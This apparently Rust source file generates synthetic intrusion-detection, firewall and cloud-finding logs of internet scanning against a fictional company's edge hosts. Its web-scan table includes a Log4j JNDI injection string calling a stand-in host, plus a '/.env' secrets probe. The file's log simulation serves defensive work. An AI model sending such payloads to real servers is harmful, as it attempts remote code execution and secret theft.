//! Strangers at the edge: scans, probes, lists of known scanners. They reach nothing.

use super::rhythm::Rhythm;
use crate::catalogue::LOG4J;
use crate::company::{EDGE, Host, SFTP, SHOP, SSH_GATEWAY, VPN, WEB};
use crate::dice::Dice;
use crate::formats::cef::{Threat, firewall_threat};
use crate::formats::guardduty::{Action, Finding, Resource, finding};
use crate::formats::suricata::{Class, Flow, Signature, alert, dropped, http, signature};
use crate::json::Object;
use crate::moment::{Day, Moment};
use crate::outside::stranger;
use crate::record::Record;

/// Rules that fire on one packet to a port: weight, rule, port.
const PORT_SCANS: [(u32, (Signature, u16)); 11] = [
    (20, (signature(2001219, 20, "ET SCAN Potential SSH Scan", RECON), 22)),
    (14, (signature(2010935, 3, "ET SCAN Suspicious inbound to MSSQL port 1433", BAD), 1433)),
    (10, (signature(2010937, 3, "ET SCAN Suspicious inbound to mySQL port 3306", BAD), 3306)),
    (9, (signature(2010939, 3, "ET SCAN Suspicious inbound to PostgreSQL port 5432", BAD), 5432)),
    (5, (signature(2010936, 3, "ET SCAN Suspicious inbound to Oracle SQL port 1521", BAD), 1521)),
    (8, (signature(2002911, 6, "ET SCAN Potential VNC Scan 5900-5920", RECON), 5900)),
    (5, (signature(2002910, 6, "ET SCAN Potential VNC Scan 5800-5820", RECON), 5800)),
    (8, (signature(2009582, 3, "ET SCAN NMAP -sS window 1024", RECON), 443)),
    (7, (TERMINAL_SERVER, 3390)),
    (16, (BLOCK_LIST, 8080)),
    (18, (POOR_REPUTATION, 23)),
];
const RECON: Class = Class::AttemptedRecon;
const BAD: Class = Class::BadUnknown;
const TERMINAL_SERVER: Signature =
    signature(2023753, 2, "ET SCAN MS Terminal Server Traffic on Non-standard Port", RECON);
const BLOCK_LIST: Signature =
    signature(2402000, 7316, "ET DROP Dshield Block Listed Source group 1", Class::MiscAttack);
const POOR_REPUTATION: Signature = signature(
    2403300,
    99153,
    "ET CINS Active Threat Intelligence Poor Reputation IP group 1",
    Class::MiscAttack,
);

/// Rules that fire on a request to a web server: weight, rule, user agent, path.
const WEB_SCANS: [(u32, (Signature, &str, &str)); 4] = [
    (4, (ZGRAB, "Mozilla/5.0 zgrab/0.x", "/")),
    (4, (PYTHON, "python-requests/2.31.0", "/.env")),
    (
        2,
        (
            NMAP,
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "/robots.txt",
        ),
    ),
    (2, (LOG4J, "${jndi:ldap://callback.sweeper.example/a}", "/")),
];
const ZGRAB: Signature = signature(2029054, 1, "ET SCAN Zmap User-Agent (zgrab)", Class::NetworkScan);
const PYTHON: Signature =
    signature(2017515, 5, "ET INFO User-Agent (python-requests) Inbound to Webserver", RECON);
const NMAP: Signature = signature(2024364, 3, "ET SCAN Possible Nmap User-Agent Observed", Class::WebAttack);

const SIP_SCAN: Signature =
    signature(2011716, 3, "ET SCAN Sipvicious User-Agent Detected (friendly-scanner)", Class::AttemptedRecon);
const PING: Signature = signature(2100366, 8, "GPL ICMP_INFO PING *NIX", Class::MiscActivity);

/// Threat, severity, category, port, application.
type FirewallThreat = (&'static str, u8, &'static str, u16, &'static str);

/// What the firewall calls such things. Port 0 stands for any.
const FIREWALL_THREATS: [(u32, FirewallThreat); 6] = [
    (8, ("SCAN: TCP Port Scan(8001)", 3, "scan", 0, "not-applicable")),
    (5, ("SCAN: Host Sweep(8002)", 3, "scan", 22, "not-applicable")),
    (6, ("ZGrab Application Layer Scanner Detection(57955)", 1, "info-leak", 443, "web-browsing")),
    (5, ("SSH User Authentication Brute Force Attempt(40015)", 4, "brute-force", 22, "ssh")),
    (3, ("HTTP Directory Traversal Request Attempt(30844)", 3, "info-leak", 80, "web-browsing")),
    (
        2,
        ("Apache Log4j Remote Code Execution Vulnerability(91991)", 5, "code-execution", 443, "web-browsing"),
    ),
];

pub(super) fn records(dice: &mut Dice, day: Day) -> Vec<Record> {
    let mut records = Vec::new();
    for at in Rhythm::Internet.moments(dice, day, 420) {
        records.push(scan(dice, at));
    }
    for at in Rhythm::Internet.moments(dice, day, 105) {
        records.push(threat(dice, at));
    }
    records.extend(port_probes(dice, day));
    records
}

fn scan(dice: &mut Dice, at: Moment) -> Record {
    let from = stranger(dice);
    let to: Host = *dice.pick(&EDGE);
    match dice.below(100) {
        0..76 => {
            let (rule, port) = *dice.weighted(&PORT_SCANS);
            let flow = Flow::tcp(dice, &from, to.ip, port);
            // The two lists are the only rules that this sensor may drop by.
            if dice.chance(60) && [BLOCK_LIST.id, POOR_REPUTATION.id].contains(&rule.id) {
                dropped(dice, at, &rule, &flow, Object::new())
            } else {
                alert(dice, at, &rule, &flow, Object::new())
            }
        }
        76..90 => {
            let (rule, agent, url) = *dice.weighted(&WEB_SCANS);
            let to = *dice.pick(&[SHOP, WEB]);
            let flow = Flow::tcp(dice, &from, to.ip, 80).speaking("http");
            let status = *dice.pick(&[301, 403, 404]);
            alert(dice, at, &rule, &flow, Object::new().with("http", http(to.ip, url, agent, "GET", status)))
        }
        90..95 => {
            let flow = Flow::udp(dice, &from, to.ip, 5060);
            alert(dice, at, &SIP_SCAN, &flow, Object::new())
        }
        _ => alert(dice, at, &PING, &Flow::icmp(&from, to.ip), Object::new()),
    }
}

fn threat(dice: &mut Dice, at: Moment) -> Record {
    let (threat, severity, category, port, app) = *dice.weighted(&FIREWALL_THREATS);
    let from = stranger(dice);
    let to = match app {
        "ssh" => *dice.pick(&[SSH_GATEWAY, SFTP]),
        "web-browsing" => *dice.pick(&[SHOP, WEB]),
        _ => *dice.pick(&EDGE),
    };
    let counted = matches!(category, "scan" | "brute-force");
    let threat = Threat {
        threat,
        severity,
        category,
        source: &from,
        destination: (to.ip, if port == 0 { *dice.pick(&[21, 25, 445, 3389, 8443]) } else { port }),
        app,
        user: None,
        action: if severity >= 4 { "reset-both" } else { "drop" },
        request: None,
        count: if counted { dice.between(1, 40) as u32 } else { 1 },
    };
    firewall_threat(dice, at, &threat)
}

/// One finding that goes on all day: the test machine in the cloud with its SSH port open to the world.
fn port_probes(dice: &mut Dice, day: Day) -> Vec<Record> {
    let id = dice.hex(32);
    let first_seen = day.around(dice, 0, 41, 12).millis();
    let mut count = 0;
    let mut records = Vec::new();
    for hour in [1, 4, 7, 10, 13, 16, 19, 22] {
        count += dice.between(3, 30) as u32;
        let remotes: Vec<_> = (0..dice.between(1, 3)).map(|_| stranger(dice)).collect();
        let at = day.within_hour(dice, hour);
        let probe = Finding {
            kind: "Recon:EC2/PortProbeUnprotectedPort",
            id: id.clone(),
            severity: 2.0,
            title: "Unprotected port on EC2 instance i-0f3a51c09be27d864 is being probed.".to_owned(),
            description:
                "EC2 instance has an unprotected port which is being probed by a known malicious host."
                    .to_owned(),
            resource: Resource::Instance { id: "i-0f3a51c09be27d864", ip: "10.20.64.15" },
            action: Action::Probe { remotes: &remotes, port: (22, "SSH") },
            count,
            first_seen,
        };
        records.push(finding(dice, at, probe));
    }
    // The VPN gateway has been probed too, once.
    let at = Rhythm::Internet.moments(dice, day, 1)[0];
    let from = stranger(dice);
    let flow = Flow::tcp(dice, &from, VPN.ip, 10443);
    records.push(alert(dice, at, &PORT_SCANS[7].1.0, &flow, Object::new()));
    records
}
